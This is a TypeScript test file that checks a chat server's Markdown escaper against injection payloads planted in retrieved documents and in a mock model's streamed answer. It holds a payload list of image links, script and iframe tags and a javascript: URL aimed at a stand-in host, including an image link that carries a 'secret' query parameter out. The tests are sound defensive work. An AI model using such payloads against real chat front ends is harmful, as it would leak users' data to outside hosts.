/** Attacks front ends of chat by texts of documents and models: nothing in them is an element. */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { test } from 'node:test';
import fc from 'fast-check';
import markdownIt from 'markdown-it';
import { InertMarkdown, inertMarkdown } from '../../src/server/inert-markdown.ts';
import { allEvents, serveShips } from './served-store.ts';

const PAYLOADS = [
  '![x](https://evil.example/a.png)',
  '![x][1]\n\n[1]: https://evil.example/a.png',
  '[1]\n\n[1]: https://evil.example/a',
  '![1][]\n\n[1]: https://evil.example/a',
  '\\![x](https://evil.example/a.png)',
  '\\[x](https://evil.example/)',
  '\\\\[x](https://evil.example/)',
  '\\\\\\![x](https://evil.example/)',
  '[1](https://evil.example/)',
  '[[1]](https://evil.example/)',
  '[![x](https://evil.example/a.png)](https://evil.example/)',
  '<img src="https://evil.example/a.png">',
  '<script>fetch("https://evil.example")</script>',
  '\\<iframe src="https://evil.example"></iframe>',
  '<https://evil.example/>',
  '<!-- <b> -->',
  '`x` ![x](https://evil.example/a.png) `y`',
  '> [1]: https://evil.example/\n> [1]',
];

/** Elements that would load something, lead somewhere or run. */
const ELEMENT = /<(?:img|script|iframe|a|object|embed|svg|link|style|form|b)\b/i;
/** A bare address may become a link by its own text, which shows where it leads. */
const rendered = (text: string): string =>
  markdownIt('commonmark')
    .render(text)
    .replace(/<\/?p>/g, '');

test('a payload renders to no element, and some would without the escapes', () => {
  let live = 0;
  for (const payload of PAYLOADS) {
    if (ELEMENT.test(rendered(payload))) live++;
    assert.doesNotMatch(rendered(inertMarkdown(payload)), ELEMENT, payload);
  }
  assert.ok(live >= 12, String(live));
});

test('no text of the characters of Markdown renders to an element, whole or in pieces', () => {
  const character = fc.constantFrom(...'![]()<>\\:1 axb/"\n`*_#-'.split(''), '[1]', '](x)', '<a ');
  const pieces = fc.array(fc.array(character, { maxLength: 8 }).map(all => all.join('')));
  fc.assert(
    fc.property(pieces, all => {
      const stream = new InertMarkdown();
      const joined = all.map(piece => stream.push(piece)).join('') + stream.end();
      assert.equal(joined, inertMarkdown(all.join('')));
      assert.doesNotMatch(rendered(joined), ELEMENT);
    }),
    { numRuns: 3000 },
  );
});

test('markers of citations and plain sentences stay as they are', () => {
  for (const text of [
    'The Linnet [1].',
    'See [1][2] and [12]',
    'a > b',
    'C:\\ships',
    '[1]',
    'x [12',
  ])
    assert.equal(inertMarkdown(text).replaceAll('\\[', '['), text);
  assert.equal(inertMarkdown('The Linnet [1], [2].'), 'The Linnet [1], [2].');
});

test('escaping takes time in proportion to the text, whatever it is', () => {
  for (const text of ['\\'.repeat(300_000), '[1'.repeat(100_000), '[[[1]]]'.repeat(40_000)]) {
    assert.ok(inertMarkdown(`${text}x`).length >= text.length);
    const stream = new InertMarkdown();
    assert.ok((stream.push(text) + stream.push('x') + stream.end()).length >= text.length);
  }
});

test('chat completions carry no element of a document, streamed or not', async () => {
  const { server, send } = await serveShips();
  await using _ = server;
  let repeated = 0;
  for (const [index, payload] of PAYLOADS.entries()) {
    const documents = [
      {
        id: `evil-${index}`,
        title: `Ship${index} ${payload}`,
        text: `The ship Kestrel${index} was built by ${payload} in 1907. It is ${payload}.`,
        source: payload,
        url: `javascript:alert(1)//${payload}`,
      },
    ];
    assert.equal((await send('/v1/documents', { body: { documents } })).status, 200);
    const question = `Which builder built the ship Kestrel${index}?`;
    for (const stream of [false, true]) {
      const body = { stream, messages: [{ role: 'user', content: question }] };
      const response = await send('/v1/chat/completions', { body });
      const content = stream ? await streamedText(response) : await wholeText(response);
      if (content.includes('evil.example')) repeated++;
      assert.doesNotMatch(rendered(content), ELEMENT, content);
    }
  }
  assert.ok(repeated > PAYLOADS.length, String(repeated));
});

test('what a model writes is made inert as it streams', async () => {
  const written = 'It is ![x](https://evil.example/?q=secret) and <img src=x> [1].';
  const model = createServer((request, response) => {
    request.resume().on('end', () => {
      response.writeHead(200, { 'Content-Type': 'text/event-stream' });
      for (const content of written) {
        const choices = [{ index: 0, delta: { role: 'assistant', content }, finish_reason: null }];
        const chunk = { id: 'x', object: 'chat.completion.chunk', created: 0, model: 'm', choices };
        response.write(`data: ${JSON.stringify(chunk)}\n\n`);
      }
      const choices = [{ index: 0, delta: {}, finish_reason: 'stop' }];
      const usage = { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 };
      const end = {
        id: 'x',
        object: 'chat.completion.chunk',
        created: 0,
        model: 'm',
        choices,
        usage,
      };
      response.end(`data: ${JSON.stringify(end)}\n\ndata: [DONE]\n\n`);
    });
  });
  await new Promise<void>(resolve => model.listen(0, '127.0.0.1', resolve));
  const { server, send } = await serveShips({
    env: {},
    model: 'openai-compatible:m',
    modelUrl: `http://127.0.0.1:${(model.address() as AddressInfo).port}/v1`,
  });
  try {
    const messages = [{ role: 'user', content: 'Which ship lost its engines?' }];
    const asked = { model: 'multihop/fixed-top-k(k=2)', messages, stream: true };
    const content = await streamedText(await send('/v1/chat/completions', { body: asked }));
    assert.match(content, /secret/);
    assert.doesNotMatch(rendered(content), ELEMENT, content);
  } finally {
    await server.close();
    model.close();
    model.closeAllConnections();
  }
});

interface Delta {
  readonly content?: string;
  readonly reasoning_content?: string;
}

async function wholeText(response: Response): Promise<string> {
  const { choices } = (await response.json()) as { choices: [{ message: { content: string } }] };
  return choices[0].message.content;
}

/** Joins the answer and the words of the hops, which front ends render too. */
async function streamedText(response: Response): Promise<string> {
  const data = (await allEvents(response)).map(event => event.data).filter(one => one !== '[DONE]');
  const deltas = data.map(
    text => (JSON.parse(text) as { choices: [{ delta: Delta }] }).choices[0].delta,
  );
  const joined = (field: keyof Delta): string => deltas.map(delta => delta[field] ?? '').join('');
  return `${joined('reasoning_content')}\n\n${joined('content')}`;
}
